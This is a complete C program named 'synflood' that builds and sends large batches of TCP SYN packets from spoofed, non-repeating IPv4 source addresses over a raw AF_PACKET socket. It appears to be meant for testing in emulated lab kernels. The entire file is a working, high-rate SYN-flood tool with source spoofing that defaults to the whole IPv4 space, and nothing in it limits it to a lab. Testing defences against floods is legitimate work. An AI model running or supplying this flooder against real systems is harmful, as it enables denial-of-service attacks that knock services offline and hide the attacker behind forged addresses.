// SPDX-License-Identifier: GPL-2.0
/*
 * synflood - send TCP SYNs from random, spoofed IPv4 sources, fast.
 *
 *   synflood IFNAME DSTMAC DST[:PORT] COUNT [SEED [SRC-PREFIX]]
 *
 * Builds COUNT Ethernet frames (IPv4, TCP SYN to DST:PORT, default 25)
 * from distinct source addresses in SRC-PREFIX (default 0.0.0.0/0): the
 * N-th is (base + N) * an odd constant modulo the prefix's size, a
 * bijection, so no source repeats until the prefix is exhausted, and the
 * addresses scatter over it. base, ports, sequence numbers and IP IDs come
 * from a seeded xorshift generator. The frames go out on IFNAME with
 * sendmmsg() on
 * an AF_PACKET socket, 512 frames per system call: a system call per
 * packet (hping3 --flood) is far too slow under an emulated or UML lab
 * kernel. Checksums are correct. Prints the seed, so a run can be
 * repeated exactly.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH	512
#define FRAME	(sizeof(struct ether_header) + sizeof(struct iphdr) + \
		 sizeof(struct tcphdr))

static uint64_t rng;

static uint32_t next_random(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

static uint32_t sum16(const void *p, size_t len, uint32_t sum)
{
	const uint8_t *b = p;

	for (; len > 1; len -= 2, b += 2)
		sum += (uint32_t)b[0] << 8 | b[1];
	if (len)
		sum += (uint32_t)b[0] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void build(uint8_t *f, const uint8_t *dmac, const uint8_t *smac,
		  uint32_t saddr, uint32_t daddr, uint16_t port)
{
	struct ether_header *eth = (struct ether_header *)f;
	struct iphdr *ip = (struct iphdr *)(eth + 1);
	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
	struct {
		uint32_t saddr, daddr;
		uint8_t zero, proto;
		uint16_t len;
	} pseudo;

	memset(f, 0, FRAME);
	memcpy(eth->ether_dhost, dmac, ETH_ALEN);
	memcpy(eth->ether_shost, smac, ETH_ALEN);
	eth->ether_type = htons(ETHERTYPE_IP);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(sizeof(*ip) + sizeof(*tcp));
	ip->id = htons((uint16_t)next_random());
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = saddr;
	ip->daddr = daddr;
	ip->check = fold(sum16(ip, sizeof(*ip), 0));
	tcp->source = htons(1024 + next_random() % 60000);
	tcp->dest = htons(port);
	tcp->seq = htonl(next_random());
	tcp->doff = 5;
	tcp->syn = 1;
	tcp->window = htons(64240);
	pseudo.saddr = saddr;
	pseudo.daddr = daddr;
	pseudo.zero = 0;
	pseudo.proto = IPPROTO_TCP;
	pseudo.len = htons(sizeof(*tcp));
	tcp->check = fold(sum16(tcp, sizeof(*tcp),
				sum16(&pseudo, sizeof(pseudo), 0)));
}

static int parse_mac(const char *s, uint8_t *mac)
{
	return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1],
		      &mac[2], &mac[3], &mac[4], &mac[5]) == 6 ? 0 : -1;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_ll ll = { .sll_family = AF_PACKET };
	uint8_t dmac[ETH_ALEN], smac[ETH_ALEN] = { 0x02, 0, 0, 0, 0, 0x01 };
	uint32_t daddr, net = 0, mask = 0, host, base;
	unsigned long count, sent = 0, seed;
	unsigned int plen = 0, i, n;
	uint16_t port = 25;
	char dst[64], *colon;
	int fd;

	if (argc < 5 || argc > 7) {
		fprintf(stderr, "usage: synflood IFNAME DSTMAC DST[:PORT] COUNT [SEED [SRC-PREFIX]]\n");
		return 2;
	}
	snprintf(dst, sizeof(dst), "%s", argv[3]);
	colon = strchr(dst, ':');
	if (colon) {
		*colon = 0;
		port = (uint16_t)atoi(colon + 1);
	}
	if (parse_mac(argv[2], dmac) || inet_pton(AF_INET, dst, &daddr) != 1) {
		fprintf(stderr, "synflood: bad MAC or destination\n");
		return 2;
	}
	count = strtoul(argv[4], NULL, 0);
	seed = argc > 5 ? strtoul(argv[5], NULL, 0) : (unsigned long)time(NULL);
	if (argc > 6) {
		char pfx[64], *slash;

		snprintf(pfx, sizeof(pfx), "%s", argv[6]);
		slash = strchr(pfx, '/');
		if (!slash || inet_pton(AF_INET, (*slash = 0, pfx), &net) != 1 ||
		    (plen = (unsigned int)atoi(slash + 1)) > 32) {
			fprintf(stderr, "synflood: bad source prefix\n");
			return 2;
		}
		mask = plen ? htonl(~0u << (32 - plen)) : 0;
	}
	rng = seed * 0x9e3779b97f4a7c15ULL + 1;
	base = next_random();

	ll.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (!ll.sll_ifindex) {
		perror("synflood: interface");
		return 1;
	}
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&ll, sizeof(ll)) < 0) {
		perror("synflood: AF_PACKET socket");
		return 1;
	}
	printf("synflood: seed %lu\n", seed);
	fflush(stdout);
	while (sent < count) {
		n = count - sent < BATCH ? (unsigned int)(count - sent) : BATCH;
		for (i = 0; i < n; i++) {
			host = htonl((base + (uint32_t)(sent + i)) * 0x9e3779b1u);
			build(frames[i], dmac, smac, (net & mask) | (host & ~mask),
			      daddr, port);
			iov[i].iov_base = frames[i];
			iov[i].iov_len = FRAME;
			memset(&msgs[i], 0, sizeof(msgs[i]));
			msgs[i].msg_hdr.msg_iov = &iov[i];
			msgs[i].msg_hdr.msg_iovlen = 1;
		}
		for (i = 0; i < n;) {
			int r = sendmmsg(fd, msgs + i, n - i, 0);

			if (r < 0) {
				if (errno == ENOBUFS || errno == EINTR)
					continue;
				perror("synflood: sendmmsg");
				return 1;
			}
			i += (unsigned int)r;
		}
		sent += n;
	}
	printf("synflood: sent %lu SYNs from %lu distinct sources\n", sent,
	       plen < 32 && count >> (32 - plen) ? 1ul << (32 - plen) : count);
	return 0;
}
